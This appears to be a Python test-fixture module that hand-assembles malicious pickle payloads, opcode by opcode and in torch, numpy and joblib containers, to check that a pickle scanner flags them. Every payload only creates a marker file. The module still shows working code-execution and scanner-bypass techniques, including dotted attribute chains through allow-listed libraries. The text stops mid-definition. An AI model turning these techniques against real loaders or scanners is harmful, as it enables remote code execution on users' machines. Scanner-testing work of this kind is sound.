"""A corpus of hostile pickle-based files, written opcode by opcode, for tests/validation/test_pickle_hostile.py.

Every payload, if it is ever unpickled, does something observable with its case's own marker path: it
runs ``touch MARKER`` (``os.system``, ``subprocess.call``, ``pydoc.pipepager`` …) or executes Python that
creates MARKER (``builtins.exec``, ``timeit.timeit``, ``cProfile.run`` …). Marker paths all contain
``MARK_TOKEN`` so that traps can recognise a payload's call by its arguments.

The bytes are hand-made (``pickle.dumps`` of a ``__reduce__`` would only ever produce one spelling), so
each case is exactly the opcode sequence it names. Containers (torch zip and legacy files, joblib,
.npy/.npz, .pt2) start from real files written by torch/joblib/numpy and are then rewritten.

``build_corpus(root)`` writes every case into ``root/<case name>/`` (side files next to it) and
returns ``{name: Built}``. Cases whose ``runner`` is set are known to execute under that loader; the
test file proves it in a subprocess on a separate copy of the corpus.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MARK_TOKEN = "HOSTILE_MARKER"

# --- opcode spelling --------------------------------------------------------------------------------

PROTO = lambda n: b"\x80" + bytes([n])
STOP, MARK, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b".", b"(", b"t", b"\x85", b"\x86", b"\x87"
EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST, REDUCE, BUILD, POP = b")", b"}", b"]", b"R", b"b", b"0"
NEWOBJ, NEWOBJ_EX, STACK_GLOBAL, MEMOIZE, SETITEM, SETITEMS = b"\x81", b"\x92", b"\x93", b"\x94", b"s", b"u"
APPENDS, NONE, NEWTRUE, NEWFALSE = b"e", b"N", b"\x88", b"\x89"


def _b(s: str) -> bytes:
    return s.encode("utf-8")


def SBU(s: str) -> bytes:  # SHORT_BINUNICODE
    b = _b(s)
    assert len(b) < 256, s
    return b"\x8c" + bytes([len(b)]) + b


def BU(s: str) -> bytes:  # BINUNICODE
    b = _b(s)
    return b"X" + struct.pack("<I", len(b)) + b


def BU8(s: str) -> bytes:  # BINUNICODE8
    b = _b(s)
    return b"\x8d" + struct.pack("<Q", len(b)) + b


def SBS(s: str) -> bytes:  # SHORT_BINSTRING (a str when read with the default encoding)
    b = s.encode("latin-1")
    assert len(b) < 256
    return b"U" + bytes([len(b)]) + b


def SBB(b: bytes) -> bytes:  # SHORT_BINBYTES
    assert len(b) < 256
    return b"C" + bytes([len(b)]) + b


def BINBYTES(b: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(b)) + b


def STR0(s: str, quote: str = "'") -> bytes:  # protocol 0 STRING
    assert quote not in s and "\\" not in s and "\n" not in s, s
    return b"S" + _b(quote + s + quote) + b"\n"


def UNI0(s: str) -> bytes:  # protocol 0 UNICODE
    assert "\\" not in s and "\n" not in s
    return b"V" + s.encode("raw_unicode_escape") + b"\n"


def GLOBAL(module: str, name: str) -> bytes:
    return b"c" + _b(module) + b"\n" + _b(name) + b"\n"


def SG(module: str, name: str, spell: Callable[[str], bytes] = SBU) -> bytes:  # STACK_GLOBAL
    return spell(module) + spell(name) + STACK_GLOBAL


def BININT1(n: int) -> bytes:
    return b"K" + bytes([n])


def BININT(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def BINPUT(i: int) -> bytes:
    return b"q" + bytes([i])


def BINGET(i: int) -> bytes:
    return b"h" + bytes([i])


def LONG_BINPUT(i: int) -> bytes:
    return b"r" + struct.pack("<I", i)


def LONG_BINGET(i: int) -> bytes:
    return b"j" + struct.pack("<I", i)


def FRAME(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


def sh(marker: Path) -> str:
    """A shell command that creates the marker."""
    m = str(marker)
    assert " " not in m and "'" not in m and '"' not in m and "\\" not in m, m
    return f"touch {m}"


def py(marker: Path) -> str:
    """Python source that creates the marker."""
    return f"open({str(marker)!r}, 'w').close()"


def system_call(marker: Path) -> bytes:
    """The protocol-2 core ``os.system("touch MARKER")`` without PROTO/STOP (leaves the result on the stack)."""
    return GLOBAL("os", "system") + BU(sh(marker)) + TUPLE1 + REDUCE


def system_pickle(marker: Path, proto: int = 2) -> bytes:
    return PROTO(proto) + system_call(marker) + STOP


# --- file formats -------------------------------------------------------------------------------------

def npy_bytes(descr: str, payload: bytes, version: int = 1, shape: str = "(1,)") -> bytes:
    """A .npy file whose header names ``descr`` (an object dtype) followed by ``payload`` (the pickle numpy
    reads for object arrays)."""
    header = "{'descr': " + descr + ", 'fortran_order': False, 'shape': " + shape + ", }"
    lenbytes = 2 if version == 1 else 4
    total = 6 + 2 + lenbytes + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    prefix = b"\x93NUMPY" + bytes([version, 0])
    size = struct.pack("<H", len(header)) if version == 1 else struct.pack("<I", len(header))
    return prefix + size + header.encode("latin-1") + payload


def zip_bytes(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()


def rewrite_zip(data: bytes, edit: Callable[[str, bytes], list[tuple[str, bytes]] | None],
                extra: list[tuple[str, bytes]] = (), compress: dict[str, int] | None = None) -> bytes:
    """Copy a zip member by member; ``edit(name, data)`` returns the members that replace it (None: keep)."""
    import warnings

    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        warnings.simplefilter("ignore", UserWarning)  # a duplicate member name is the point of one case
        for info in src.infolist():
            got = edit(info.filename, src.read(info))
            for name, content in ([(info.filename, src.read(info))] if got is None else got):
                zi = zipfile.ZipInfo(name, date_time=info.date_time)
                zi.compress_type = (compress or {}).get(name, info.compress_type)
                dst.writestr(zi, content)
        for name, content in extra:
            dst.writestr(zipfile.ZipInfo(name), content)
    return out.getvalue()


def split_pickles(data: bytes, count: int) -> list[tuple[int, int]]:
    """(start, end) of the first ``count`` pickles in a stream."""
    import pickletools

    f, spans = io.BytesIO(data), []
    for _ in range(count):
        start = f.tell()
        for _op in pickletools.genops(f):
            pass
        spans.append((start, f.tell()))
    return spans


def grow_frame(data: bytes, at: int, delta: int) -> bytes:
    """Lengthen by ``delta`` the protocol-4 FRAME whose body holds offset ``at`` (Python's unpickler, which
    joblib uses, refuses an opcode that crosses a frame's end)."""
    for p in range(at - 9, -1, -1):
        if data[p] == 0x95:
            n = int.from_bytes(data[p + 1:p + 9], "little")
            if p + 9 <= at < p + 9 + n <= len(data):
                return data[:p + 1] + (n + delta).to_bytes(8, "little") + data[p + 9:]
    raise AssertionError("no FRAME around the edited opcode")


JOBLIB_CODECS = {
    "zlib": lambda d: zlib.compress(d, 3),
    "gzip": lambda d: gzip.compress(d, 3, mtime=0),
    "bz2": lambda d: bz2.compress(d, 3),
    "xz": lambda d: lzma.compress(d, format=lzma.FORMAT_XZ),
    "lzma": lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE),
}


# --- templates made by the real libraries, built once ------------------------------------------------

class Templates:
    def __init__(self):
        self._cache: dict[str, bytes] = {}

    def _get(self, key, make):
        if key not in self._cache:
            self._cache[key] = make()
        return self._cache[key]

    def torch_zip(self) -> bytes:
        def make():
            import torch

            buf = io.BytesIO()
            torch.save(torch.nn.Linear(2, 2).state_dict(), buf)
            return buf.getvalue()
        return self._get("torch_zip", make)

    def torch_legacy(self) -> bytes:
        def make():
            import torch

            buf = io.BytesIO()
            torch.save(torch.nn.Linear(2, 2).state_dict(), buf, _use_new_zipfile_serialization=False)
            return buf.getvalue()
        return self._get("torch_legacy", make)

    def joblib_plain(self) -> bytes:
        def make():
            import joblib
            import numpy as np

            buf = io.BytesIO()
            joblib.dump({"w": np.ones(10), "x": 1}, buf)
            return buf.getvalue()
        return self._get("joblib", make)

    def pt2(self) -> bytes:
        def make():
            import torch

            ep = torch.export.export(torch.nn.Linear(2, 2), (torch.zeros(1, 2),))
            buf = io.BytesIO()
            torch.export.save(ep, buf)
            return buf.getvalue()
        return self._get("pt2", make)


# --- the cases -----------------------------------------------------------------------------------

@dataclass
class Ctx:
    dir: Path  # the case's own directory (side files go here)
    marker: Path
    t: Templates

    def side(self, name: str, data: bytes) -> Path:
        p = self.dir / name
        p.write_bytes(data)
        return p


@dataclass(frozen=True)
class Spec:
    name: str
    family: str
    filename: str
    build: Callable[[Ctx], bytes]
    expect: str = "dangerous"  # "dangerous": report.dangerous non-empty; "not_clean": only report.clean is False
    must_flag: tuple = ()  # (module, name) pairs that must be among the dangerous globals
    runner: str | None = None  # a loader that really runs the payload: pickle, pickle_all, torch, torch_export, joblib, numpy
    why: str = ""


SPECS: list[Spec] = []


def case(name, family, filename, *, expect="dangerous", must_flag=(), runner=None, why=""):
    def deco(fn):
        SPECS.append(Spec(name, family, filename, fn, expect, tuple(must_flag), runner, why))
        return fn
    return deco


# 1. the issue's file: a torch-legacy-looking first value, the payload inside the first 32 bytes
def _issue41(c: Ctx) -> bytes:
    return b"\x80\x02\x8a\x01\x00" + b"cos\nsystem\n(" + STR0(sh(c.marker)) + b"tR."


case("issue41_pkl", "1-issue", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
     why="PROTO 2, LONG1 0 (torch-legacy-like head), then GLOBAL os.system inside the first 32 bytes")(_issue41)
case("issue41_pt", "1-issue", "evil.pt", must_flag=[("os", "system")], runner="torch",
     why="the same bytes named .pt: torch's legacy loader unpickles its 'magic number' first")(_issue41)


# 2. several pickles in one stream
@case("benign_then_payload", "2-multi", "evil.pkl", must_flag=[("os", "system")], runner="pickle_all",
      why="pickle.dumps({'a': 1}) followed by a second pickle holding os.system")
def _(c):
    import pickle

    return pickle.dumps({"a": 1}) + system_pickle(c.marker)


@case("three_pickles_payload_last", "2-multi", "evil.pkl", must_flag=[("os", "system")], runner="pickle_all",
      why="three benign pickles (protocols 5, 2, 0) then the payload at protocol 0")
def _(c):
    import pickle

    return (pickle.dumps({"a": 1}, protocol=5) + pickle.dumps([1, 2], protocol=2) + pickle.dumps("x", protocol=0)
            + GLOBAL("os", "system") + MARK + STR0(sh(c.marker)) + TUPLE + REDUCE + STOP)


# 3. one payload spelled every way the opcodes allow
@case("p0_global_reduce", "3-spelling", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
      why="protocol 0: GLOBAL + MARK STRING TUPLE + REDUCE")
def _(c):
    return GLOBAL("os", "system") + MARK + STR0(sh(c.marker)) + TUPLE + REDUCE + STOP


@case("p0_inst", "3-spelling", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
      why="protocol 0 INST calls the global with the marked items")
def _(c):
    return MARK + STR0(sh(c.marker)) + b"i" + b"os\nsystem\n" + STOP


@case("p0_put_get_called_twice", "3-spelling", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
      why="the global memoized with PUT, fetched back with GET and called a second time")
def _(c):
    call = MARK + STR0(sh(c.marker)) + TUPLE + REDUCE
    return GLOBAL("os", "system") + b"p0\n" + call + POP + b"g0\n" + call + STOP


@case("p0_unicode_arg", "3-spelling", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
      why="protocol 0 UNICODE argument")
def _(c):
    return GLOBAL("os", "system") + MARK + UNI0(sh(c.marker)) + TUPLE + REDUCE + STOP


@case("p0_builtin_eval", "3-spelling", "evil.pkl", must_flag=[("__builtin__", "eval")], runner="pickle",
      why="__builtin__.eval (mapped to builtins by fix_imports) of an __import__('os').system(...) string")
def _(c):
    src = f"__import__('os').system('{sh(c.marker)}')"
    return GLOBAL("__builtin__", "eval") + MARK + STR0(src, quote='"') + TUPLE + REDUCE + STOP


@case("p1_obj", "3-spelling", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
      why="protocol 1 OBJ: MARK, the callable, its argument (SHORT_BINSTRING), OBJ")
def _(c):
    return MARK + GLOBAL("os", "system") + SBS(sh(c.marker)) + b"o" + STOP


@case("p1_binput_binget_twice", "3-spelling", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
      why="BINPUT the global, call it, BINGET it and call it again")
def _(c):
    call = MARK + SBS(sh(c.marker)) + TUPLE + REDUCE
    return GLOBAL("os", "system") + BINPUT(0) + call + POP + BINGET(0) + call + STOP


@case("p2_posix_system", "3-spelling", "evil.pkl", must_flag=[("posix", "system")], runner="pickle",
      why="posix.system (what os.system is) with a BINUNICODE argument")
def _(c):
    return PROTO(2) + GLOBAL("posix", "system") + BU(sh(c.marker)) + TUPLE1 + REDUCE + STOP


@case("p2_newobj_partial", "3-spelling", "evil.pkl", runner="pickle",
      why="NEWOBJ functools.partial(os.system, cmd), then REDUCE with no arguments calls it")
def _(c):
    return (PROTO(2) + GLOBAL("functools", "partial") + GLOBAL("os", "system") + BU(sh(c.marker)) + TUPLE2
            + NEWOBJ + EMPTY_TUPLE + REDUCE + STOP)


@case("p2_build_setstate_injection", "3-spelling", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
      why="BUILD (None, {'__setstate__': os.system}) on an OrderedDict, then BUILD cmd calls inst.__setstate__")
def _(c):
    return (PROTO(2) + GLOBAL("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
            + NONE + EMPTY_DICT + BU("__setstate__") + GLOBAL("os", "system") + SETITEM + TUPLE2 + BUILD
            + BU(sh(c.marker)) + BUILD + STOP)


@case("p2_compat_commands", "3-spelling", "evil.pkl", runner="pickle",
      why="py2 name commands.getoutput, which fix_imports maps to subprocess.getoutput")
def _(c):
    return PROTO(2) + GLOBAL("commands", "getoutput") + BU(sh(c.marker)) + TUPLE1 + REDUCE + STOP


@case("p2_compat_cpickle_loads", "3-spelling", "evil.pkl", runner="pickle",
      why="py2 name cPickle.loads (fix_imports: pickle.loads) of a nested payload held in a bytes literal")
def _(c):
    inner = system_pickle(c.marker)
    return PROTO(2) + GLOBAL("cPickle", "loads") + SBB(inner) + TUPLE1 + REDUCE + STOP


@case("p3_subprocess_call_list", "3-spelling", "evil.pkl", must_flag=[("subprocess", "call")], runner="pickle",
      why="subprocess.call(['touch', M]) with the list built by EMPTY_LIST MARK ... APPENDS")
def _(c):
    return (PROTO(3) + GLOBAL("subprocess", "call") + EMPTY_LIST + MARK + BU("touch") + BU(str(c.marker))
            + APPENDS + TUPLE1 + REDUCE + STOP)


@case("p4_sg_short_binunicode_framed", "3-spelling", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
      why="protocol 4 FRAME, SHORT_BINUNICODE strings, MEMOIZE, STACK_GLOBAL")
def _(c):
    body = (SBU("os") + MEMOIZE + SBU("system") + MEMOIZE + STACK_GLOBAL + MEMOIZE + SBU(sh(c.marker)) + MEMOIZE
            + TUPLE1 + MEMOIZE + REDUCE + MEMOIZE + STOP)
    return PROTO(4) + FRAME(body)


@case("p4_sg_binunicode", "3-spelling", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
      why="STACK_GLOBAL with BINUNICODE strings")
def _(c):
    return PROTO(4) + SG("os", "system", BU) + BU(sh(c.marker)) + TUPLE1 + REDUCE + STOP


@case("p4_sg_binunicode8", "3-spelling", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
      why="STACK_GLOBAL with BINUNICODE8 strings")
def _(c):
    return PROTO(4) + SG("os", "system", BU8) + BU8(sh(c.marker)) + TUPLE1 + REDUCE + STOP


@case("p4_sg_string_opcode", "3-spelling", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
      why="STACK_GLOBAL with protocol-0 STRING operands (decoded to str by the default encoding)")
def _(c):
    return PROTO(4) + STR0("os") + STR0("system") + STACK_GLOBAL + BU(sh(c.marker)) + TUPLE1 + REDUCE + STOP


@case("p4_sg_short_binstring", "3-spelling", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
      why="STACK_GLOBAL with SHORT_BINSTRING operands")
def _(c):
    return PROTO(4) + SBS("os") + SBS("system") + STACK_GLOBAL + SBS(sh(c.marker)) + TUPLE1 + REDUCE + STOP


@case("p4_memo_binput_binget", "3-spelling", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
      why="module and name stored with BINPUT, popped, fetched back with BINGET for STACK_GLOBAL")
def _(c):
    return (PROTO(4) + SBU("os") + BINPUT(1) + POP + SBU("system") + BINPUT(2) + POP + BINGET(1) + BINGET(2)
            + STACK_GLOBAL + SBU(sh(c.marker)) + TUPLE1 + REDUCE + STOP)


@case("p4_memo_long_binput", "3-spelling", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
      why="LONG_BINPUT/LONG_BINGET at large memo indices")
def _(c):
    return (PROTO(4) + SBU("os") + LONG_BINPUT(70000) + POP + SBU("system") + LONG_BINPUT(0x30001) + POP
            + LONG_BINGET(70000) + LONG_BINGET(0x30001) + STACK_GLOBAL + SBU(sh(c.marker)) + TUPLE1 + REDUCE + STOP)


@case("p4_memoize_index_confusion", "3-spelling", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
      why="MEMOIZE stores at len(memo), not at a MEMOIZE counter: 'numpy' lands at 1, BINGET 0 is still 'os'")
def _(c):
    return (PROTO(4) + SBU("os") + BINPUT(0) + POP + SBU("numpy") + MEMOIZE + POP + BINGET(0) + SBU("system")
            + STACK_GLOBAL + SBU(sh(c.marker)) + TUPLE1 + REDUCE + STOP)


@case("p4_memo_global_called_twice", "3-spelling", "evil.pkl", must_flag=[("os", "system")], runner="pickle",
      why="a STACK_GLOBAL result memoized and called twice through BINGET")
def _(c):
    return (PROTO(4) + SG("os", "system") + MEMOIZE + SBU(sh(c.marker)) + TUPLE1 + REDUCE + POP + BINGET(0)
            + SBU(sh(c.marker)) + TUPLE1 + REDUCE + STOP)


@case("p4_computed_names", "3-spelling", "evil.pkl", runner="pickle",
      why="STACK_GLOBAL operands computed at load time by builtins.str(b'os', 'ascii'): no literal name to read")
def _(c):
    return (PROTO(4) + SG("builtins", "str") + MEMOIZE + SBB(b"os") + SBU("ascii") + TUPLE2 + REDUCE
            + BINGET(0) + SBB(b"system") + SBU("ascii") + TUPLE2 + REDUCE + STACK_GLOBAL
            + SBU(sh(c.marker)) + TUPLE1 + REDUCE + STOP)


@case("p5_exec_framed", "3-spelling", "evil.pkl", must_flag=[("builtins", "exec")], runner="pickle",
      why="protocol 5 FRAME, builtins.exec of Python source")
def _(c):
    return PROTO(5) + FRAME(SG("builtins", "exec") + BU(py(c.marker)) + TUPLE1 + REDUCE + STOP)


@case("p5_newobj_ex_partial", "3-spelling", "evil.pkl", runner="pickle",
      why="NEWOBJ_EX functools.partial(os.system, cmd) with empty kwargs, then called")
def _(c):
    return (PROTO(5) + SG("functools", "partial") + SG("os", "system") + SBU(sh(c.marker)) + TUPLE2 + EMPTY_DICT
            + NEWOBJ_EX + EMPTY_TUPLE + REDUCE + STOP)


for _name, _code in (("ext1", b"\x82\x07"), ("ext2", b"\x83\x07\x01"), ("ext4", b"\x84\x07\x01\x01\x00")):
    case(f"p2_{_name}", "3-spelling", "evil.pkl",
         why=f"{_name.upper()}: a global named by a copyreg extension code (not registered here)")(
        lambda c, _code=_code: PROTO(2) + _code + BU(sh(c.marker)) + TUPLE1 + REDUCE + STOP)


# 4. attribute chains and helpers that reach code through names that look harmless
case("chain_numpy_ctypeslib_os", "4-chain", "evil.pkl",
     why="numpy + 'ctypeslib.os.system' (protocol 4 resolves dotted names attribute by attribute)")(
    lambda c: PROTO(4) + SG("numpy", "ctypeslib.os.system") + SBU(sh(c.marker)) + TUPLE1 + REDUCE + STOP)
case("chain_numpy_ctypeslib_private_os", "4-chain", "evil.pkl", runner="pickle",
     why="numpy + 'ctypeslib._ctypeslib.os.system' (the chain that resolves in numpy 2.x)")(
    lambda c: PROTO(4) + SG("numpy", "ctypeslib._ctypeslib.os.system") + SBU(sh(c.marker)) + TUPLE1 + REDUCE + STOP)
case("chain_torch_serialization_os", "4-chain", "evil.pkl", runner="pickle",
     why="torch + 'serialization.os.system'")(
    lambda c: PROTO(4) + SG("torch", "serialization.os.system") + SBU(sh(c.marker)) + TUPLE1 + REDUCE + STOP)
case("chain_ordereddict_init_globals", "4-chain", "evil.pkl",
     why="collections + 'OrderedDict.__init__.__globals__'")(
    lambda c: PROTO(4) + SG("collections", "OrderedDict.__init__.__globals__") + SBU("os") + TUPLE1 + REDUCE + STOP)
case("chain_torch_load_globals", "4-chain", "evil.pkl",
     why="torch + 'serialization.load.__globals__.get' (a module's globals through an allow-listed root)")(
    lambda c: PROTO(4) + SG("torch", "serialization.load.__globals__.get") + SBU("os") + TUPLE1 + REDUCE + STOP)


@case("builtins_getattr_import", "4-chain", "evil.pkl", must_flag=[("builtins", "getattr")], runner="pickle",
      why="builtins.getattr(builtins.__import__('os'), 'system')(cmd)")
def _(c):
    return (PROTO(4) + SG("builtins", "getattr") + SG("builtins", "__import__") + SBU("os") + TUPLE1 + REDUCE
            + SBU("system") + TUPLE2 + REDUCE + SBU(sh(c.marker)) + TUPLE1 + REDUCE + STOP)


@case("numpy_testing_runstring", "4-chain", "evil.pkl", runner="pickle",
      why="numpy.testing._private.utils.runstring(src, {}) is exec")
def _(c):
    return (PROTO(4) + SG("numpy.testing._private.utils", "runstring") + SBU(py(c.marker)) + EMPTY_DICT + TUPLE2
            + REDUCE + STOP)


@case("pydoc_locate", "4-chain", "evil.pkl", must_flag=[("pydoc", "locate")], runner="pickle",
      why="pydoc.locate('os.system') resolves any dotted name; the result is then called")
def _(c):
    return (PROTO(4) + SG("pydoc", "locate") + SBU("os.system") + TUPLE1 + REDUCE + SBU(sh(c.marker)) + TUPLE1
            + REDUCE + STOP)


@case("pydoc_pipepager", "4-chain", "evil.pkl", must_flag=[("pydoc", "pipepager")], runner="pickle",
      why="pydoc.pipepager(text, cmd) runs cmd in a shell")
def _(c):
    return PROTO(4) + SG("pydoc", "pipepager") + SBU("x") + SBU(sh(c.marker)) + TUPLE2 + REDUCE + STOP


@case("timeit_timeit", "4-chain", "evil.pkl", must_flag=[("timeit", "timeit")], runner="pickle",
      why="timeit.timeit(stmt, 'pass', time.perf_counter, 1) executes stmt")
def _(c):
    return (PROTO(4) + SG("timeit", "timeit") + MARK + SBU(py(c.marker)) + SBU("pass") + SG("time", "perf_counter")
            + BININT1(1) + TUPLE + REDUCE + STOP)


@case("cprofile_run", "4-chain", "evil.pkl", must_flag=[("cProfile", "run")], runner="pickle",
      why="cProfile.run(src) executes src")
def _(c):
    return PROTO(4) + SG("cProfile", "run") + SBU(py(c.marker)) + TUPLE1 + REDUCE + STOP


case("doctest_debug_script", "4-chain", "evil.pkl", must_flag=[("doctest", "debug_script")],
     why="doctest.debug_script(src) executes src (under pdb: not run by the sanity check)")(
    lambda c: PROTO(4) + SG("doctest", "debug_script") + SBU(py(c.marker)) + TUPLE1 + REDUCE + STOP)
case("pdb_run", "4-chain", "evil.pkl", must_flag=[("pdb", "run")],
     why="pdb.run(src) executes src (interactive: not run by the sanity check)")(
    lambda c: PROTO(4) + SG("pdb", "run") + SBU(py(c.marker)) + TUPLE1 + REDUCE + STOP)


@case("pkgutil_resolve_name", "4-chain", "evil.pkl", must_flag=[("pkgutil", "resolve_name")], runner="pickle",
      why="pkgutil.resolve_name('os:system') then called")
def _(c):
    return (PROTO(4) + SG("pkgutil", "resolve_name") + SBU("os:system") + TUPLE1 + REDUCE + SBU(sh(c.marker))
            + TUPLE1 + REDUCE + STOP)


@case("numpy_core_ufunc_reconstruct", "4-chain", "evil.pkl", runner="pickle",
      why="numpy.core._ufunc_reconstruct('os', 'system') (the resolver old numpy pickles name) then called")
def _(c):
    return (PROTO(4) + SG("numpy.core", "_ufunc_reconstruct") + SBU("os") + SBU("system") + TUPLE2 + REDUCE
            + SBU(sh(c.marker)) + TUPLE1 + REDUCE + STOP)


case("numpy_private_core_ufunc_reconstruct", "4-chain", "evil.pkl",
     why="numpy._core._ufunc_reconstruct('os', 'system') (absent from this numpy; the name must still be refused)")(
    lambda c: PROTO(4) + SG("numpy._core", "_ufunc_reconstruct") + SBU("os") + SBU("system") + TUPLE2 + REDUCE
    + SBU(sh(c.marker)) + TUPLE1 + REDUCE + STOP)


@case("torch_import_dotted_name", "4-chain", "evil.pkl", runner="pickle",
      why="torch._utils._import_dotted_name('os.system') then called")
def _(c):
    return (PROTO(4) + SG("torch._utils", "_import_dotted_name") + SBU("os.system") + TUPLE1 + REDUCE
            + SBU(sh(c.marker)) + TUPLE1 + REDUCE + STOP)


@case("scipy_uarray_unpickle_function", "4-chain", "evil.pkl", runner="pickle",
      why="scipy._lib._uarray._backend.unpickle_function('os', 'system', None): a resolver under an allow-listed root")
def _(c):
    return (PROTO(4) + SG("scipy._lib._uarray._backend", "unpickle_function") + SBU("os") + SBU("system") + NONE
            + TUPLE3 + REDUCE + SBU(sh(c.marker)) + TUPLE1 + REDUCE + STOP)


@case("torch_collect_env_run", "4-chain", "evil.pkl", runner="pickle",
      why="torch.utils.collect_env.run(cmd) is subprocess.Popen(cmd, shell=True)")
def _(c):
    return PROTO(4) + SG("torch.utils.collect_env", "run") + SBU(sh(c.marker)) + TUPLE1 + REDUCE + STOP


@case("torch_snapshot_loads_side_pickle", "4-chain", "evil.pkl", runner="pickle",
      why="torch._utils._augment_memory_snapshot_stack_traces(path) pickle.loads another file (a side payload)")
def _(c):
    side = c.side("snapshot.pickle", system_pickle(c.marker))
    return (PROTO(4) + SG("torch._utils", "_augment_memory_snapshot_stack_traces") + SBU(str(side)) + TUPLE1
            + REDUCE + STOP)


@case("joblib_numpy_pickle_load_side", "4-chain", "evil.pkl", runner="pickle",
      why="joblib.numpy_pickle.load(path) (joblib.load under its defining module) loads a side payload")
def _(c):
    side = c.side("side.pkl", system_pickle(c.marker))
    return PROTO(4) + SG("joblib.numpy_pickle", "load") + SBU(str(side)) + TUPLE1 + REDUCE + STOP


# 5. containers
def _torch_zip(c: Ctx, edit=None, extra=(), compress=None) -> bytes:
    return rewrite_zip(c.t.torch_zip(), edit or (lambda n, d: None), list(extra), compress)


@case("zip_data_pkl", "5-container", "evil.pt", runner="torch", why="torch zip: archive/data.pkl replaced by the payload")
def _(c):
    return _torch_zip(c, lambda n, d: [(n, system_pickle(c.marker))] if n.endswith("/data.pkl") else None)


@case("zip_data_pkl_deflated", "5-container", "evil.pt", runner="torch",
      why="torch zip: payload data.pkl stored DEFLATE-compressed")
def _(c):
    return _torch_zip(c, lambda n, d: [(n, system_pickle(c.marker))] if n.endswith("/data.pkl") else None,
                      compress={"archive/data.pkl": zipfile.ZIP_DEFLATED})


@case("zip_extra_pkl", "5-container", "evil.pt", why="torch zip: the payload in an extra member archive/extra.pkl")
def _(c):
    return _torch_zip(c, extra=[("archive/extra.pkl", system_pickle(c.marker))])


@case("zip_renamed_data_bin", "5-container", "evil.pt", why="torch zip: the payload in archive/data.bin")
def _(c):
    return _torch_zip(c, extra=[("archive/data.bin", system_pickle(c.marker))])


@case("zip_member_no_suffix_p0", "5-container", "evil.pt",
      why="torch zip: a protocol-0 payload (no \\x80 header) in archive/payload, a name without suffix")
def _(c):
    return _torch_zip(c, extra=[("archive/payload", GLOBAL("os", "system") + MARK + STR0(sh(c.marker)) + TUPLE
                                 + REDUCE + STOP)])


@case("zip_duplicate_data_pkl", "5-container", "evil.pt",
      why="torch zip: a second member named archive/data.pkl holding the payload")
def _(c):
    return _torch_zip(c, extra=[("archive/data.pkl", system_pickle(c.marker))])


@case("zip_nested_zip", "5-container", "evil.pt", why="torch zip: a member that is a zip holding a payload data.pkl")
def _(c):
    return _torch_zip(c, extra=[("archive/nested.zip", zip_bytes([("inner/data.pkl", system_pickle(c.marker))]))])


@case("zip_nested_gzip", "5-container", "evil.pt", why="torch zip: a member that is a gzip of the payload")
def _(c):
    return _torch_zip(c, extra=[("archive/nested.pkl.gz", gzip.compress(system_pickle(c.marker), mtime=0))])


@case("zip_torch_collect_env", "5-container", "evil.pt", runner="torch",
      why="torch zip: data.pkl calls torch.utils.collect_env.run (a code-runner under the torch root)")
def _(c):
    body = PROTO(2) + GLOBAL("torch.utils.collect_env", "run") + BU(sh(c.marker)) + TUPLE1 + REDUCE + STOP
    return _torch_zip(c, lambda n, d: [(n, body)] if n.endswith("/data.pkl") else None)


@case("npz_object_member", "5-container", "evil.npz", runner="numpy",
      why=".npz whose arr_0.npy is an object array: its pickle is the payload")
def _(c):
    return zip_bytes([("arr_0.npy", npy_bytes("'|O'", system_pickle(c.marker)))])


@case("npz_object_member_no_suffix", "5-container", "evil.npz", runner="numpy",
      why=".npz member 'arr_0' (no .npy suffix; numpy reads it all the same)")
def _(c):
    return zip_bytes([("arr_0", npy_bytes("'|O'", system_pickle(c.marker)))], zipfile.ZIP_DEFLATED)


@case("npy_object", "5-container", "evil.npy", runner="numpy", why=".npy with an object dtype header, then the payload")
def _(c):
    return npy_bytes("'|O'", system_pickle(c.marker))


@case("npy_object_v2_header", "5-container", "evil.npy", runner="numpy", why=".npy format 2.0 (4-byte header length)")
def _(c):
    return npy_bytes("'|O'", system_pickle(c.marker), version=2)


@case("npy_descr_object_spelled_out", "5-container", "evil.npy", runner="numpy",
      why=".npy header descr 'object' (no capital O): numpy still reads an object array by unpickling")
def _(c):
    return npy_bytes("'object'", system_pickle(c.marker))


def _joblib_inner(c: Ctx) -> bytes:
    """joblib.dump({'w': np.ones(10), 'x': 1}) with the value 1 replaced by os.system(cmd)."""
    data = c.t.joblib_plain()
    key = SBU("x") + MEMOIZE
    i = data.index(key) + len(key)
    assert data[i:i + 2] == BININT1(1), data[i - 8:i + 8]
    core = SG("os", "system") + SBU(sh(c.marker)) + TUPLE1 + REDUCE
    return grow_frame(data[:i] + core + data[i + 2:], i, len(core) - 2)


def _joblib_appended(c: Ctx) -> bytes:
    return c.t.joblib_plain() + system_pickle(c.marker)


case("joblib_inner_value", "5-container", "evil.joblib", runner="joblib",
